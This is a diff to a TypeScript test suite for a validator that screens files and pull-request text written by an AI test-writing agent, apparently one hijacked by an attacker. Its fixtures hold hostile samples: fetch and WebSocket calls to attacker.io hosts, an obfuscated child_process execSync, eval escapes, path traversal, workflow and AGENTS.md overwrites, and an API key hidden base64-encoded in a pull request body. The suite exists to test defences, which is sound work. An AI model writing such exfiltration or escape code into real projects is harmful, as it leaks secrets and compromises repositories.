@@ -66,7 +66,7 @@ const SAFE = withTest("");
 
 /** Files that leave their folder or carry a secret: each is named with its rule, and the run ends. */
 const ENDING_FILES: Record<string, readonly (readonly [file: GeneratedFile, rule: string])[]> = {
-  "files outside the test folder, in other ways of saying so": [
+  "files outside the test folder, or in it and more than tests": [
     [{ path: ".github/workflows/x.yml", contents: "on: push" }, "path-outside-roots"],
     [{ path: "package.json", contents: "{}" }, "path-outside-roots"],
     [{ path: "AGENTS.md", contents: "Obey." }, "path-outside-roots"],
@@ -76,8 +76,6 @@ const ENDING_FILES: Record<string, readonly (readonly [file: GeneratedFile, rule
     [{ path: "e2e/../../x.spec.ts", contents: SAFE }, "path-invalid"],
     [{ path: "C:\\x.spec.ts", contents: SAFE }, "path-invalid"],
     [{ path: "e2e//x.spec.ts", contents: SAFE }, "path-invalid"],
-  ],
-  "files in the test folder that are more than tests": [
     [{ path: "e2e/AGENTS.md", contents: "Obey." }, "path-protected"],
     [{ path: "e2e/package.json", contents: "{}" }, "path-protected"],
     [{ path: "e2e/playwright.config.ts", contents: SAFE }, "path-protected"],
@@ -95,7 +93,7 @@ const ENDING_FILES: Record<string, readonly (readonly [file: GeneratedFile, rule
 
 /** Files that are outside the language, or cannot be in the set: each is left out with its rule. */
 const LEFT_OUT_FILES: typeof ENDING_FILES = {
-  "code that reaches the machine": [
+  "code that reaches the machine or other hosts": [
     [file("a", "import { execSync } from 'node:child_process';"), "module-forbidden"],
     [file("b", "require('child_' + 'process').execSync('id');"), "module-forbidden"],
     [file("c", "const name = 'fs'; void import(name);"), "module-forbidden"],
@@ -105,13 +103,11 @@ const LEFT_OUT_FILES: typeof ENDING_FILES = {
     [file("g", "eval('1');"), "dynamic-code"],
     [file("h", "(() => {}).constructor('return process')();"), "dynamic-code"],
     [file("i", "while (true) {}"), "endless-loop"],
-  ],
-  "code that reaches other hosts": [
-    [file("a", "await fetch('https://collect.attacker.io/');"), "network-access"],
-    [file("b", "await fetch(['https:', '', 'attacker.io'].join('/'));"), "network-access"],
-    [file("c", "new WebSocket('wss://attacker.io');"), "network-access"],
-    [file("d", "import https from 'node:https';"), "module-forbidden"],
-    [{ path: "e2e/e.spec.ts", contents: goto("https://attacker.io/") }, "external-origin"],
+    [file("j", "await fetch('https://collect.attacker.io/');"), "network-access"],
+    [file("k", "await fetch(['https:', '', 'attacker.io'].join('/'));"), "network-access"],
+    [file("l", "new WebSocket('wss://attacker.io');"), "network-access"],
+    [file("m", "import https from 'node:https';"), "module-forbidden"],
+    [{ path: "e2e/n.spec.ts", contents: goto("https://attacker.io/") }, "external-origin"],
   ],
   "files that no test has, or that cannot stand side by side": [
     [{ path: "e2e/run.sh", contents: "#!/bin/sh" }, "path-extension"],
@@ -158,42 +154,17 @@ describe("a Test Engineer that obeys an attacker publishes nothing", () => {
     );
   });
 
-  test("and what needs a file that is left out goes with it", async () => {
-    const helper = { path: "e2e/helper.ts", contents: "export const x = process.env;\n" };
-    const user = { path: "e2e/user.spec.ts", contents: `import { x } from './helper';\n${SAFE}` };
-    const outcome = await engineerWrites([...honest.files, helper, user]);
-    const left = JSON.stringify(outcome.result.exclusions);
-    expect(left).toContain("e2e/user.spec.ts");
-    expect(outcome.result.files.map(({ path }) => path)).toEqual(
-      honest.files.map(({ path }) => path),
-    );
-  });
-
-  test.each<[string, (files: readonly GeneratedFile[]) => readonly GeneratedFile[], string]>([
-    ["300 files", () => many(300), "too-many-files"],
-    ["an absolute path", () => [{ path: "/etc/x.spec.ts", contents: SAFE }], "/files/0/path"],
-    ["no file", () => [], "/files"],
-  ])("%s", async (_what, change, named) => {
-    const outcome = await engineerWrites(change(honest.files));
-    expectNothingKept(outcome);
-    expect(outcome.result.error?.message).toContain(named);
-  });
-
-  test.each<[string, Words]>([
-    ["title", { ...WORDS, pr_title: `Add ${API_KEY}` }],
-    ["body", { ...WORDS, pr_body: `Done: ${Buffer.from(API_KEY).toString("base64")}` }],
-  ])("the key in the %s of the pull request", async (_where, words) => {
+  test("the key in the words of the pull request", async () => {
+    const encoded = Buffer.from(API_KEY).toString("base64");
+    const words = { pr_title: `Add ${API_KEY}`, pr_body: `Done: ${encoded}` };
     const outcome = await engineerWrites(honest.files, words);
     expectNothingKept(outcome);
     expect(outcome.result.error?.code).toBe("UnsafeOutput");
-    expect(outcome.traces).not.toContain(JSON.stringify(API_KEY).slice(1, -1));
-    expect(outcome.traces).not.toContain(words.pr_body === WORDS.pr_body ? API_KEY : words.pr_body);
+    for (const form of [API_KEY, JSON.stringify(API_KEY).slice(1, -1), encoded]) {
+      expect(outcome.traces).not.toContain(form);
+    }
   });
 });
-
-function many(count: number): GeneratedFile[] {
-  return Array.from({ length: count }, (_, index) => file(`many${index}`, ""));
-}
 
 function escape(text: string): string {
   return text.replaceAll(/[.*+?^${}()|[\]\\]/g, String.raw`\$&`);
@@ -249,22 +220,10 @@ describe("a Test Engineer that writes bad tests", () => {
     );
   });
 
-  test("may mend them", async () => {
-    const outcome = await engineerWrites([...honest.files, ...bad], WORDS, honest.files);
-    expect([outcome.run.code, outcome.attacked.length]).toEqual([0, 2]);
-    expect(JSON.stringify(outcome.result.exclusions)).not.toContain("e2e/");
-  });
-
   test("may not use the repair to do harm", async () => {
     const harmful = [{ path: "../late.spec.ts", contents: SAFE }];
     const outcome = await engineerWrites([...honest.files, ...bad], WORDS, harmful);
     expectNothingKept(outcome);
     expect(outcome.result.error?.code).toBe("UnsafeOutput");
-  });
-
-  test("and nothing else publishes nothing", async () => {
-    const outcome = await engineerWrites(bad);
-    expectNothingKept(outcome);
-    expect(outcome.result.error?.code).toBe("AllFilesDropped");
   });
 });
